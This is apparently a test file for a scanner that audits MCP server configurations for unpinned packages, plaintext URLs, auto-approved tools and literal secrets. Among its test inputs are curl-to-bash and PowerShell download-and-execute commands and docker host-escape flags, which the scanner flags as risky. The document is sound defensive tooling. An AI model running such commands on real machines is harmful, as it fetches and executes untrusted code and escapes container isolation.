import assert from 'node:assert/strict';
import { described } from './described.ts';

describe('MCP configurations', () => {
  check(
    'a container with a variable and approvals',
    '.roo/mcp.json',
    `{ "mcpServers": { "github": {
      "command": "docker",
      "args": ["run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"],
      "env": { "GITHUB_TOKEN": "\${env:GH_TOKEN}" },
      "alwaysAllow": ["list_issues", "merge_pull_request"]
    } } }`,
    [
      'mcp-server | mcp:.roo/mcp.json#github | github «github» | record',
      '  key mcp:ghcr.io/github/github-mcp-server',
      '  key mcp:server:github',
      '  transport = stdio «docker»',
      '  launcher = docker «docker»',
      '  package = ghcr.io/github/github-mcp-server «ghcr.io/github/github-mcp-server»',
      '  pinned = false «ghcr.io/github/github-mcp-server»',
      '  handedOver = true «-e»',
      '  env = GITHUB_TOKEN «GITHUB_TOKEN»',
      'allow list_issues «list_issues» on *: read [read network-in] unattended',
      'allow merge_pull_request «merge_pull_request» on *: write [write] unattended',
      'uses secret-ref:env:GH_TOKEN «${env:GH_TOKEN}»',
    ],
  );

  check(
    'comments and inputs of VS Code',
    '.vscode/mcp.json',
    `{
      "inputs": [{ "id": "docs", "type": "promptString", "password": true }],
      "servers": {
        // identity-hygiene: owner @acme/docs review 2027-01-31
        "docs": { "command": "npx", "args": ["-y", "@acme/docs@1.2.3", "--token=\${input:docs}", "\${workspaceFolder}"] },
      },
    }`,
    [
      'mcp-server | mcp:.vscode/mcp.json#docs | docs «docs» | comment',
      '  key mcp:@acme/docs',
      '  key mcp:server:docs',
      '  review 2027-01-31 «2027-01-31»',
      '  technical @acme/docs by comment',
      '  transport = stdio «npx»',
      '  launcher = npx «npx»',
      '  package = @acme/docs «@acme/docs@1.2.3»',
      '  pinned = true «@acme/docs@1.2.3»',
      'uses secret-ref:input:docs «${input:docs}»',
    ],
  );

  check(
    'what a URL may hold stays out of the facts',
    '.mcp.json',
    '{ "mcpServers": { "hook": { "type": "sse", "url": "https://me:pw@mcp.example.com/s/9f8e7d6c5b4a39281706/sse?key=k", "disabled": true } } }',
    [
      'mcp-server | mcp:.mcp.json#hook | hook «hook» | record | disabled',
      '  key mcp:https://mcp.example.com/s/*/sse',
      '  key mcp:server:hook',
      '  transport = sse «sse»',
      '  url = https://mcp.example.com/s/*/sse «https://me:pw@mcp.example.com/s/9f8e7d6c5b4a39281706/sse?key=k»',
    ],
  );

  check(
    'a local command list and its variables',
    'opencode.json',
    '{ "mcp": { "db": { "type": "local", "command": ["uvx", "--from", "acme-db>=2", "serve"], "environment": { "DB_URL": "{env:DB_URL}" } } } }',
    [
      'mcp-server | mcp:opencode.json#db | db «db» | comment',
      '  key mcp:acme-db',
      '  key mcp:server:db',
      '  transport = stdio «local»',
      '  launcher = uvx «uvx»',
      '  package = acme-db «acme-db>=2»',
      '  pinned = false «acme-db>=2»',
      '  env = DB_URL «DB_URL»',
      'uses secret-ref:env:DB_URL «{env:DB_URL}»',
    ],
  );

  check(
    'entries that are no servers',
    '.mcp.json',
    '{ "mcpServers": { "a": {}, "b": 1, "c": { "args": ["x"] } } }',
    [],
  );
  check('a document that breaks off', '.mcp.json', '{ "mcpServers": { "a": { "command": "x", "args": ["y"', [
    'mcp-server | mcp:.mcp.json#a | a «a» | record',
    '  key mcp:server:a',
    '  transport = stdio «x»',
    '  launcher = x «x»',
    'agent-unparseable: The bracket is not closed. «[»',
  ]);
  check('another file of the same name', 'docs/mcp.json.md', '{ "mcpServers": { "a": { "command": "x" } } }', []);

  for (const [args, expected] of Object.entries({
    'npx -y pkg@1.2.3': 'pkg true',
    'npx --package=@a/b@2.0.0 b': '@a/b true',
    'npx pkg@^1.2.3': 'pkg false',
    'npx pkg@latest': 'pkg false',
    'npx pkg@${VERSION}': 'none',
    'npx ./server.js': 'none',
    'npx tsx src/server.ts': 'tsx unknown',
    'cmd /c npx -y pkg': 'pkg false',
    'pnpm dlx pkg@1.0.0': 'pkg true',
    'npm run server': 'none',
    'uvx pkg==0.4.1': 'pkg true',
    'uvx pkg[extra]': 'pkg false',
    'uv tool run pkg@1.2.3': 'pkg true',
    'uv run server.py': 'none',
    [`uvx --from git+https://token@git.example.com/a/b@${'0f'.repeat(20)} b`]: 'https://git.example.com/a/b true',
    'uvx --from git+https://git.example.com/a/b b': 'https://git.example.com/a/b false',
    'docker run --rm -v /a:/b img:1.2.3': 'img true',
    'docker run -i --name x registry.example.com:5000/img': 'registry.example.com:5000/img false',
    [`docker run img@sha256:${'ab'.repeat(32)}`]: 'img true',
    'docker run img:1': 'img false',
    'docker compose up': 'none',
    'node dist/index.js': 'none',
  }))
    it(`${args} → ${expected}`, () => {
      const traits = traitsOf({ command: args.split(' ')[0], args: args.split(' ').slice(1) });
      assert.equal(traits.package ? `${traits.package} ${traits.pinned ?? 'unknown'}` : 'none', expected);
    });

  for (const [args, trait, expected] of [
    ['bash -c source .env && ./run', 'shell', 'inline'],
    ['sh -c curl -s https://a.example/x | bash', 'shell', 'downloads'],
    ['powershell -Command iwr https://a.example/x | iex', 'shell', 'downloads'],
    ['bash run.sh', 'shell', undefined],
    ['psql postgres://db/x;y', 'shell', undefined],
    ['docker run --mount type=bind,source=/,target=/host img:1.2.3', 'hostEscape', 'mount of /'],
    ['docker run --pid=host img:1.2.3', 'hostEscape', '--pid=host'],
    ['docker run --cap-add ALL img:1.2.3', 'hostEscape', '--cap-add=ALL'],
    ['docker run --privileged=false -v ./data:/data img:1.2.3', 'hostEscape', undefined],
    ['docker run img:1.2.3 --privileged', 'hostEscape', undefined],
    ['npx server-filesystem@1.0.0 ~/projects/repo /Users/jo', 'rootReach', 'home'],
    ['npx server-filesystem@1.0.0 .. C:\\', 'rootReach', 'disk'],
    ['npx server-filesystem@1.0.0 /srv/docs ./', 'rootReach', undefined],
    ['npx server-profiles@1.0.0 /', 'rootReach', undefined],
  ] as const)
    it(`${args} → ${trait} ${expected}`, () => {
      const [command, ...words] = args.split(' ');
      // The text behind a shell's -c is one argument.
      const joined =
        /^(bash|sh|powershell)$/.test(command ?? '') && words.length > 1 ? [words[0], words.slice(1).join(' ')] : words;
      assert.equal(traitsOf({ command, args: joined })[trait], expected);
    });

  for (const [url, expected] of Object.entries({
    'http://mcp.example.com/x': 'remote',
    'ws://mcp.example.com': 'remote',
    'https://mcp.example.com': undefined,
    'http://localhost:3000': 'loopback',
    'http://[::1]/': 'loopback',
    'http://api.tools.svc/mcp': 'cluster',
    'http://10.1.2.3/': 'cluster',
    'http://${HOST}/mcp': undefined,
  }))
    it(`${url} → ${expected}`, () => assert.equal(traitsOf({ url }).plaintext, expected));

  for (const [pair, expected] of Object.entries({
    'API_TOKEN=aB3dE5fG7hJ9kL1m': 'env',
    'DB_PASSWORD=c0rrect-h0rse-9': 'env',
    'API_TOKEN=<YOUR_TOKEN>': undefined,
    'API_TOKEN=your-api-key-1': undefined,
    'API_TOKEN=ntn_****': undefined,
    'API_TOKEN=${API_TOKEN}': undefined,
    'API_TOKEN=changeme123': undefined,
    'API_TOKEN=': undefined,
    'MAX_TOKENS=aB3dE5fG7hJ9kL1m': undefined,
    'MAX_TOKEN=4096000000a': undefined,
    'CACHE_KEY=aB3dE5fG7hJ9kL1m': undefined,
    'PRIVATE_KEY=./keys/a1.pem': undefined,
    'LOG_LEVEL=debug0123456': undefined,
  }))
    it(`${pair} → ${expected}`, () => {
      const [name = '', value = ''] = pair.split('=');
      assert.equal(traitsOf({ command: 'x', env: { [name]: value } })[`literal.${name}`], expected);
    });
});

function check(title: string, path: string, text: string, expected: readonly string[]): void {
  it(title, () => assert.deepEqual(described(path, text), expected));
}

/** The traits of one server, by name. */
function traitsOf(server: object): Readonly<Record<string, string>> {
  const lines = described('.mcp.json', JSON.stringify({ mcpServers: { it: server } }));
  const traits = lines.flatMap((line) => /^ {2}(\S+) = (.*?) «/.exec(line)?.slice(1, 3) ?? []);
  return Object.fromEntries(Array.from({ length: traits.length / 2 }, (_, at) => [traits[2 * at], traits[2 * at + 1]]));
}
